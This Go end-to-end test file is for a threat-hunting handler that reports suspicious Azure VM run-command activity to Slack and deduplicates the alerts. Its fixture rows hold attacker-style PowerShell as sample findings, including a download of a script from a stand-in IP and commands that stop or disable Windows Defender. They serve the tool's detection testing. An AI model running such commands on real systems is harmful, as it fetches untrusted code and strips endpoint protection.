package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/huntwatch/huntwatch/handler/internal/azurite"
	"github.com/huntwatch/huntwatch/handler/internal/fakeazure"
	"github.com/huntwatch/huntwatch/handler/internal/fakeslack"
	"github.com/huntwatch/huntwatch/handler/internal/loopback"
)

// The end-to-end tests build the real binary and run it as the Functions host does: environment
// settings, FUNCTIONS_CUSTOMHANDLER_PORT, readiness on /, timer payloads POSTed to /function. It
// talks to Azurite, a TLS Log Analytics server, an App Service identity endpoint and a local Slack.

var (
	buildOnce sync.Once
	binPath   string
	buildErr  error
)

func binary(t *testing.T) string {
	t.Helper()
	buildOnce.Do(func() {
		dir, err := os.MkdirTemp("", "huntwatch-e2e")
		if err != nil {
			buildErr = err
			return
		}
		binPath = filepath.Join(dir, "huntwatch")
		out, err := exec.Command("go", "build", "-o", binPath, ".").CombinedOutput()
		if err != nil {
			buildErr = fmt.Errorf("go build: %v\n%s", err, out)
		}
	})
	if buildErr != nil {
		t.Fatal(buildErr)
	}
	return binPath
}

func TestMain(m *testing.M) {
	code := m.Run()
	if binPath != "" {
		os.RemoveAll(filepath.Dir(binPath))
	}
	os.Exit(code)
}

const accessToken = "e2e-access-token-9f8e7d"

// world is everything outside the handler.
type world struct {
	la     *fakeazure.LogAnalytics
	id     *fakeazure.Identity
	slack  *fakeslack.Server
	tables *azurite.Server
	env    []string
	procs  []*handlerProcess // every process started, for the output checks
}

func newWorld(t *testing.T) *world {
	w := &world{
		la:     fakeazure.NewLogAnalytics(t, accessToken),
		id:     fakeazure.NewIdentity(t, accessToken),
		slack:  fakeslack.New(t),
		tables: azurite.Start(t),
	}
	w.env = []string{
		"PATH=" + os.Getenv("PATH"),
		"HOME=" + t.TempDir(),
		"SSL_CERT_FILE=" + w.la.CertFile(t),
		"LOG_ANALYTICS_WORKSPACE_ID=11111111-2222-3333-4444-555555555555",
		"LOG_ANALYTICS_ENDPOINT=" + w.la.Endpoint(),
		"DEDUP_TABLE_CONNECTION=" + w.tables.ConnectionString(),
		"SLACK_BOT_TOKEN=" + w.slack.Token(),
		"SLACK_CHANNEL=" + fakeslack.DefaultChannel,
		"SLACK_API_URL=" + w.slack.URL(),
		"AZURE_CLIENT_ID=33333333-0000-0000-0000-000000000001",
		"LOG_LEVEL=debug",
		"HUNTS=runcommand-mde", // the local Log Analytics answers every query with one table: one hunt reads it
		"HUNT_FREQUENCY=0",     // every invocation runs the hunt, as these tests expect of each tick
	}
	for k, v := range w.id.Env() {
		w.env = append(w.env, k+"="+v)
	}
	return w
}

// secrets are the values no output of the handler may contain.
func (w *world) secrets() []string {
	return []string{w.slack.Token(), azurite.Key, accessToken}
}

var e2eColumns = []fakeazure.Column{
	{Name: "TimeGenerated", Type: "datetime"}, {Name: "CorrelationId", Type: "string"}, {Name: "Caller", Type: "string"}, {Name: "CallerIpAddress", Type: "string"},
	{Name: "SubscriptionId", Type: "string"}, {Name: "VirtualMachineName", Type: "string"}, {Name: "ResourceId", Type: "string"},
	{Name: "PowershellFileName", Type: "string"}, {Name: "PowershellFileSize", Type: "long"}, {Name: "PowershellScriptCommands", Type: "dynamic"},
	{Name: "ScriptFingerprintHash", Type: "string"}, {Name: "RunId", Type: "string"},
}

func finding(minute int, corr, vm, fp string, cmds ...string) []any {
	list, _ := json.Marshal(cmds)
	sub := "0b1f6471-1bf0-4dda-aec3-cb9272f09590"
	return []any{time.Now().UTC().Add(time.Duration(minute-120) * time.Minute).Format(time.RFC3339Nano), corr,
		"alice@contoso.com", "203.0.113.7", sub, vm,
		"/subscriptions/" + sub + "/resourceGroups/rg-prod/providers/Microsoft.Compute/virtualMachines/" + vm,
		"script0.ps1", 812, string(list), fp, corr}
}

// handlerProcess is one running huntwatch serve.
type handlerProcess struct {
	cmd      *exec.Cmd
	url      string
	out, err *loopback.Buffer
	done     chan struct{}
}

// start runs the binary as the host does: host.json's arguments, the port in the environment.
func (w *world) start(t *testing.T, extraEnv ...string) *handlerProcess {
	t.Helper()
	return w.startArgs(t, nil, extraEnv...)
}

// startArgs is start with more arguments after "serve" (flags such as --lease).
func (w *world) startArgs(t *testing.T, args []string, extraEnv ...string) *handlerProcess {
	t.Helper()
	p := startServe(t, "", args, append(append([]string{}, w.env...), extraEnv...))
	w.procs = append(w.procs, p)
	return p
}

// startServe runs "huntwatch serve args..." in dir ("": this package's folder) with env and a free
// FUNCTIONS_CUSTOMHANDLER_PORT, and returns once it answers readiness on /.
func startServe(t *testing.T, dir string, args, env []string) *handlerProcess {
	t.Helper()
	port := loopback.Port(t)
	p := &handlerProcess{url: "http://127.0.0.1:" + port, out: &loopback.Buffer{}, err: &loopback.Buffer{}, done: make(chan struct{})}
	p.cmd = exec.Command(binary(t), append([]string{"serve"}, args...)...)
	p.cmd.Dir = dir
	p.cmd.Env = append(append([]string{}, env...), "FUNCTIONS_CUSTOMHANDLER_PORT="+port)
	p.cmd.Stdout, p.cmd.Stderr = p.out, p.err
	if err := p.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() { p.cmd.Wait(); close(p.done) }()
	t.Cleanup(func() { p.kill() })
	deadline := time.Now().Add(15 * time.Second)
	for {
		resp, err := http.Get(p.url + "/")
		if err == nil {
			resp.Body.Close()
			if resp.StatusCode == http.StatusOK {
				return p
			}
		}
		select {
		case <-p.done:
			t.Fatalf("handler exited before ready:\n%s\n%s", p.out, p.err)
		default:
		}
		if time.Now().After(deadline) {
			t.Fatalf("handler not ready after 15s:\n%s\n%s", p.out, p.err)
		}
		time.Sleep(20 * time.Millisecond) // polling readiness, as the host does
	}
}

func (p *handlerProcess) kill() {
	if p.cmd.Process != nil {
		p.cmd.Process.Kill()
		<-p.done
	}
}

// stop sends SIGTERM by pid and waits for a clean exit.
func (p *handlerProcess) stop(t *testing.T) {
	t.Helper()
	p.cmd.Process.Signal(syscall.SIGTERM)
	select {
	case <-p.done:
	case <-time.After(30 * time.Second):
		t.Fatal("handler did not stop within 30s of SIGTERM")
	}
	if code := p.cmd.ProcessState.ExitCode(); code != 0 {
		t.Errorf("exit code %d after SIGTERM:\n%s", code, p.err)
	}
}

const timerPayload = `{"Data":{"timer":{"Schedule":{"AdjustForDST":true},"ScheduleStatus":{"Last":"0001-01-01T00:00:00","Next":"2026-11-27T14:00:00+00:00","LastUpdated":"0001-01-01T00:00:00"},"IsPastDue":false}},"Metadata":{"sys":{"MethodName":"function","UtcNow":"2026-11-27T13:00:00Z"}}}`

type invocation struct {
	status int
	logs   []string
}

func (p *handlerProcess) invoke(t *testing.T) invocation {
	t.Helper()
	return p.invokeWith(t, timerPayload)
}

// invokeWith POSTs one timer payload to /function, as the host does.
func (p *handlerProcess) invokeWith(t *testing.T, payload string) invocation {
	t.Helper()
	resp, err := http.Post(p.url+"/function", "application/json", strings.NewReader(payload))
	if err != nil {
		t.Fatalf("invoke: %v", err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if ct := resp.Header.Get("Content-Type"); ct != "application/json" {
		t.Errorf("content type %q", ct)
	}
	var reply struct {
		Outputs     map[string]any
		Logs        []string
		ReturnValue any
	}
	if err := json.Unmarshal(body, &reply); err != nil {
		t.Fatalf("reply %q: %v", body, err)
	}
	return invocation{status: resp.StatusCode, logs: reply.Logs}
}

// fingerprintsPosted lists the fingerprint of each top-level message (thread replies tell further
// occurrences of a posted one).
func fingerprintsPosted(s *fakeslack.Server) []string {
	var fps []string
	for _, m := range s.Messages() {
		if m.ThreadTS != "" {
			continue
		}
		for _, fp := range []string{"fp-A", "fp-B", "fp-C", "fp-D", "fp-E"} {
			if strings.Contains(string(m.Blocks), fp) || strings.Contains(m.Text, fp) {
				fps = append(fps, fp)
			}
		}
	}
	return fps
}

func TestEndToEnd(t *testing.T) {
	if testing.Short() {
		t.Skip("slow end-to-end test: skipped with -short")
	}
	w := newWorld(t)
	rows := [][]any{
		finding(0, "corr-1", "web-01", "fp-A", "Get-Process", "whoami"),
		finding(5, "corr-2", "web-02", "fp-A", "Get-Process", "whoami"),
		finding(7, "corr-3", "db-01", "fp-B", "Invoke-WebRequest http://203.0.113.9/x.ps1"),
	}
	w.la.SetTable(fakeazure.Table{Columns: e2eColumns, Rows: rows})
	p := w.start(t)
	posted := func() string { return strings.Join(fingerprintsPosted(w.slack), " ") }

	t.Run("first run posts each new fingerprint once", func(t *testing.T) {
		r := p.invoke(t)
		if r.status != 200 || posted() != "fp-A fp-B" {
			t.Fatalf("status %d, posted %q, logs %q\n%s", r.status, posted(), r.logs, p.err)
		}
		if !strings.Contains(strings.Join(r.logs, " "), "2 new") {
			t.Errorf("summary %q", r.logs)
		}
		reqs := w.la.Requests()
		if len(reqs) != 1 || !strings.HasPrefix(reqs[0].Query, "let HuntStart = datetime(") || reqs[0].Authorization != "Bearer "+accessToken {
			t.Errorf("query request %+v", reqs)
		}
	})
	t.Run("second identical run posts nothing", func(t *testing.T) {
		if r := p.invoke(t); r.status != 200 || posted() != "fp-A fp-B" {
			t.Fatalf("status %d, posted %q", r.status, posted())
		}
	})
	t.Run("a new fingerprint posts exactly one message", func(t *testing.T) {
		rows = append(rows, finding(30, "corr-4", "web-01", "fp-C", "net user"))
		w.la.SetTable(fakeazure.Table{Columns: e2eColumns, Rows: rows})
		if r := p.invoke(t); r.status != 200 || posted() != "fp-A fp-B fp-C" {
			t.Fatalf("status %d, posted %q", r.status, posted())
		}
	})
	t.Run("a failed Slack post is delivered by the next run", func(t *testing.T) {
		rows = append(rows, finding(40, "corr-5", "web-03", "fp-D", "Stop-Service WinDefend"))
		w.la.SetTable(fakeazure.Table{Columns: e2eColumns, Rows: rows})
		w.slack.ErrorNext(1, "invalid_auth")
		r := p.invoke(t)
		if r.status != 500 || posted() != "fp-A fp-B fp-C" {
			t.Fatalf("failing run: status %d, posted %q\n%s", r.status, posted(), p.err)
		}
		// stderr is copied from a pipe: wait for the line rather than read it at once.
		if !eventually(func() bool { return strings.Contains(p.err.String(), "invalid_auth") }) {
			t.Errorf("stderr lacks the reason:\n%s", p.err)
		}
		if r := p.invoke(t); r.status != 200 || posted() != "fp-A fp-B fp-C fp-D" {
			t.Fatalf("next run: status %d, posted %q\n%s", r.status, posted(), p.err)
		}
	})
	t.Run("two concurrent invocations post a new fingerprint once", func(t *testing.T) {
		rows = append(rows, finding(50, "corr-6", "web-04", "fp-E", "Set-MpPreference -DisableRealtimeMonitoring $true"))
		w.la.SetTable(fakeazure.Table{Columns: e2eColumns, Rows: rows})
		var wg sync.WaitGroup
		statuses := make([]int, 2)
		for i := range statuses {
			wg.Go(func() { statuses[i] = p.invoke(t).status })
		}
		wg.Wait()
		if statuses[0] != 200 || statuses[1] != 200 || posted() != "fp-A fp-B fp-C fp-D fp-E" {
			t.Fatalf("statuses %v, posted %q", statuses, posted())
		}
	})
	t.Run("a restarted process still remembers", func(t *testing.T) {
		p.stop(t)
		p = w.start(t)
		if r := p.invoke(t); r.status != 200 || posted() != "fp-A fp-B fp-C fp-D fp-E" {
			t.Fatalf("status %d, posted %q", r.status, posted())
		}
	})
	t.Run("no secret in any output", func(t *testing.T) {
		var all string
		for _, p := range w.procs {
			all += p.out.String() + p.err.String()
		}
		if !strings.Contains(all, "posted") {
			t.Fatal("no output captured")
		}
		for _, m := range w.slack.Messages() {
			all += m.Text + string(m.Blocks)
		}
		for _, s := range w.secrets() {
			if strings.Contains(all, s) {
				t.Errorf("secret %.6s… appears in the output", s)
			}
		}
	})
}

func TestServeRefusesIncompleteSettings(t *testing.T) {
	cmd := exec.Command(binary(t), "serve")
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "FUNCTIONS_CUSTOMHANDLER_PORT=" + loopback.Port(t), "HUNT_LOOKBACK=often", "SLACK_WEBHOOK_URL=https://hooks.example/services/T0/B0/verysecretvalue"}
	out, err := cmd.CombinedOutput()
	if err == nil {
		t.Fatal("serve started without settings")
	}
	for _, want := range []string{"HUNT_LOOKBACK", `"often"`} {
		if !strings.Contains(string(out), want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(string(out), "verysecretvalue") {
		t.Errorf("secret echoed:\n%s", out)
	}
}

// eventually polls cond for up to 10 seconds.
func eventually(cond func() bool) bool {
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
		if cond() {
			return true
		}
	}
	return cond()
}
